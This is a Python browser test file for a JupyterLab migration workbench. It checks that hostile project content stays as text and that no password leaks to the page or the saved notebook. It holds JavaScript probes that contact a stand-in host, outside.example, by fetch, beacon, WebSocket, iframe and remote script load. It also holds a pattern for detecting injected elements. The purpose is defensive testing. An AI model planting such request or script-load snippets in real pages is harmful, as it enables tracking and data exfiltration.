"""Whoever wrote a name, a cell or a migration: nothing of it runs in the page, and no password leaves its file."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hostile import ADDED, BODY, BROKEN_CONFIG, NAMES, PASSWORD, Dangers, hostile_project
from projects import write_project

from browser.bench_page import CELL, BenchPage
from browser.conftest import Server
from browser.lab import TOKEN, LabPage, write_notebook

WAYS_OUT = {
    "an image": "() => { document.body.append(Object.assign(new Image(), {src: 'http://outside.example/a.png'})); }",
    "a style": "() => { document.body.style.background = 'url(http://outside.example/b.png)'; }",
    "fetch": "() => { fetch('https://outside.example/c').catch(() => {}); }",
    "a beacon": "() => { navigator.sendBeacon('https://outside.example/d', 'x'); }",
    "another port of this machine": "() => { fetch('http://127.0.0.1:9/e').catch(() => {}); }",
    "a web socket": "() => { new WebSocket('wss://outside.example/f'); }",
    "another page": "() => { open('http://outside.example/g'); }",
    "a frame": "() => { document.body.innerHTML = '<iframe src=\"http://outside.example/h\"></iframe>'; }",
    "a script": "() => { document.body.append(Object.assign(document.createElement('script'), "
    "{src: 'https://outside.example/i.js'})); }",
}


@pytest.mark.parametrize("way", WAYS_OUT)
def test_a_request_to_outside_is_noticed_however_it_is_made(chromium: Any, server: Server, way: str) -> None:
    context = chromium.new_context()
    lab = LabPage(context.new_page(), server.address)
    lab.page.goto(f"{server.address}/login?token={TOKEN}")
    assert lab.strangers == []
    lab.page.evaluate(WAYS_OUT[way])
    lab.page.wait_for_timeout(300)
    context.close()
    assert len(lab.strangers) == 1


def test_a_dialog_of_the_page_is_noticed(chromium: Any, server: Server) -> None:
    context = chromium.new_context()
    lab = LabPage(context.new_page(), server.address)
    lab.page.goto(f"{server.address}/login?token={TOKEN}")
    lab.page.evaluate("() => alert('hello')")
    context.close()
    assert lab.errors == ["a dialog was opened (alert): hello"]


# A hostile project

DANGERS = """(root) => [...root.querySelectorAll('*')].filter((node) =>
    ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'BASE', 'FORM', 'META'].includes(node.tagName)
    || (node.tagName === 'IMG' && !node.src.startsWith('data:image/svg+xml'))
    || node.getAttributeNames().some((name) => name.startsWith('on') || name === 'srcdoc'
        || (/^(.*:)?(href|src|action|formaction|data)$/.test(name)
            && /^\\s*(javascript|vbscript|data:text)/i.test(node.getAttribute(name))))
).map((node) => node.outerHTML.slice(0, 160))"""
"""The elements below one that run or load something, or wait to; JupyterLab's diagrams are images of SVG."""

ALL_WORDS = """() => document.documentElement.outerHTML
    + [...document.querySelectorAll('input, textarea')].map((node) => node.value).join('\\n')"""


def assert_unharmed(lab: LabPage) -> None:
    assert lab.page.evaluate("() => window.pwned ?? null") is None, "something ran"
    found = [lab.page.evaluate_handle("() => document.querySelector('.jp-Notebook')").evaluate(DANGERS)]
    assert found == [[]]
    words = lab.page.evaluate(ALL_WORDS)
    assert [words[max(hit.start() - 200, 0) : hit.end()] for hit in re.finditer(PASSWORD, words)] == []


def tabs(bench: BenchPage) -> Iterator[Any]:
    """What each tab shows, opened one after the other; each time with nothing of it harmful."""
    for name in bench.root.get_by_role("tab").all_inner_texts():
        yield bench.tab(name.strip())
        bench.lab.settle()
        assert_unharmed(bench.lab)


def choose_each(bench: BenchPage, shown: Any) -> None:
    """Each choice of each list that can be seen there, one after the other."""
    for place in range(shown.locator("select:visible").count()):
        choice = shown.locator("select:visible").nth(place)
        for option in range(min(choice.locator("option").count(), len(NAMES) + 2)):
            choice.select_option(index=option)
            bench.lab.settle()
            assert_unharmed(bench.lab)


@pytest.fixture
def hostile(folder: Path) -> Path:
    """The notebook of a hostile project."""
    root = hostile_project(folder / "hostile")
    return write_notebook(root / "workbench.ipynb", [CELL])


def outputs(notebook: Path) -> list[dict[str, Any]]:
    cells = json.loads(notebook.read_text("utf-8"))["cells"]
    return [output for cell in cells for output in cell.get("outputs", ())]


def assert_harmless_file(notebook: Path) -> list[str]:
    """The HTML that the notebook's file holds, after a look at all of it."""
    text = notebook.read_text("utf-8")
    assert PASSWORD not in text
    assert "widgets" not in json.loads(text)["metadata"]
    pieces = [output["data"].get("text/html", "") for output in outputs(notebook) if "data" in output]
    made = ["".join(piece) for piece in pieces]
    assert [danger for html in made for danger in Dangers(html).found] == []
    return made


def test_names_and_cells_of_every_table_stay_text(hostile: Path, lab: Callable[..., LabPage]) -> None:
    bench = BenchPage(lab(hostile))
    for shown in tabs(bench):
        choose_each(bench, shown)
    seen = bench.tab("Rows").inner_text() + bench.tab("Schema").inner_text()
    assert "window.pwned" in seen, "what would run is there to be read"


def test_a_run_and_its_failure_stay_text_on_the_page_and_in_the_file(
    hostile: Path, lab: Callable[..., LabPage], chromium: Any, server: Server
) -> None:
    page = lab(hostile)
    bench = BenchPage(page)
    bench.choose("change")
    bench.click("Rehearse")
    bench.await_run("Rehearsed on a copy")
    assert ADDED in bench.tab("Schema").inner_text()
    list(tabs(bench))
    bench.click("Apply to here")
    bench.await_pending(1)
    list(tabs(bench))
    bench.choose("fails")
    bench.click("Rehearse")
    said = bench.root.get_by_role("alert")
    said.wait_for()
    bench.await_idle()
    assert "cannot connect to postgresql://app:***@db.example" in said.inner_text()
    list(tabs(bench))

    page.run_cell("%load_ext pwmig")
    for cell in ("%pwmig status", "%pwmig diff", "%pwmig rehearse", "workbench.bench.project", "workbench.last_run"):
        page.run_cell(cell)
        assert_unharmed(page)
    assert "window.pwned=16" in page.run_cell(f"print(workbench.schema({BODY!r}))\nworkbench.rows({BODY!r})")
    assert_unharmed(page)
    page.save()
    pieces = assert_harmless_file(hostile)
    assert any("window.pwned" in Dangers(html).text for html in pieces)

    context = chromium.new_context()
    alone = LabPage(context.new_page(), server.address)
    alone.page.set_content("".join(pieces))
    assert alone.page.evaluate("() => window.pwned ?? null") is None
    context.close()
    assert alone.strangers == [] and alone.errors == []


def test_lists_of_hostile_names_in_the_form_stay_text(hostile: Path, lab: Callable[..., LabPage]) -> None:
    bench = BenchPage(lab(hostile))
    bench.click("New migration")
    bench.lab.settle()
    choose_each(bench, bench.root)
    assert_unharmed(bench.lab)
    bench.lab.save()
    assert_harmless_file(hostile)


def test_a_config_that_fails_on_a_line_with_a_password_leaks_nothing(folder: Path, lab: Callable[..., LabPage]) -> None:
    root = write_project(folder / "broken", {}, config=BROKEN_CONFIG)
    notebook = write_notebook(root / "workbench.ipynb", ["1 + 1"])
    page = lab(notebook)
    said = page.run_cell(CELL)
    assert "can't be imported" in said
    assert_unharmed(page)
    page.save()
    assert_harmless_file(notebook)
